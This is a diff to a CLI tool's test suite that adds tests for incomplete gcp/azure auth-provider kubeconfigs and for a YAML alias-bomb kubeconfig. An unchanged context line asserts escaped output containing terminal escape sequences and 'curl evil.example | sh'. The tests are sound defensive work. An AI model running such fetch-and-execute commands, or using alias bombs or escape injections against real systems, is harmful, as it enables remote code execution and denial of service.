@@ -163,3 +163,35 @@ test(`cluster text with escape sequences and line breaks reaches the verify tabl
   assert.match(verify.stdout, /app:1\\e\]0;owned\\u0007\\e\[2J\\r\\ndeployment\/fake/);
   assert.match(doctor.stdout, /Failed to pull\\e\[31m\\n {2}fix:\\n {4}curl evil\.example \| sh/);
 });
+
+test(`a gcp or azure auth-provider user without a token gets kubectl's "plugin removed" advice, not a JavaScript TypeError`, async () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-gcp-`));
+  try {
+    for (const [name, plugin] of [[`gcp`, `gke-gcloud-auth-plugin`], [`azure`, `kubelogin`]] as const) {
+      const file = path.join(dir, `kubeconfig-${name}`);
+      fs.writeFileSync(file, JSON.stringify({apiVersion: `v1`, kind: `Config`, 'current-context': `c`, clusters: [{name: `c`, cluster: {server: `https://127.0.0.1:1`}}], users: [{name: `u`, user: {'auth-provider': {name}}}], contexts: [{name: `c`, context: {cluster: `c`, user: `u`}}]}));
+      const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
+      assert.notEqual(result.code, 0);
+      assert.match(result.stderr, new RegExp(`^error: cannot get credentials for user "u" \\(.*\\): its ${name} auth-provider entry is incomplete \\(no usable token in its config\\); the ${name} auth plugin has been removed from kubectl: use the .*${plugin}.* credential plugin instead\n$`));
+      assert.doesNotMatch(result.stderr, /TypeError|Cannot read properties/);
+    }
+  } finally {
+    fs.rmSync(dir, {recursive: true, force: true});
+  }
+});
+
+test(`a kubeconfig alias bomb is refused with one line naming the file`, async () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `hostile-bomb-`));
+  const file = path.join(dir, `kubeconfig`);
+  const levels = [`a: &a [x,x,x,x,x,x,x,x,x]`];
+  for (let i = 1; i < 7; i++)
+    levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(`,`)}]`);
+  fs.writeFileSync(file, `${levels.join(`\n`)}\n`);
+  try {
+    const result = await runCli([`list`, `-n`, `web`, `--kubeconfig`, file]);
+    assert.notEqual(result.code, 0);
+    assert.match(result.stderr, new RegExp(`^error: kubeconfig ${file.replace(/[/.-]/g, `\\$&`)} is not valid YAML \\(.*alias.*\\); fix or replace the file\\n$`));
+  } finally {
+    fs.rmSync(dir, {recursive: true, force: true});
+  }
+});
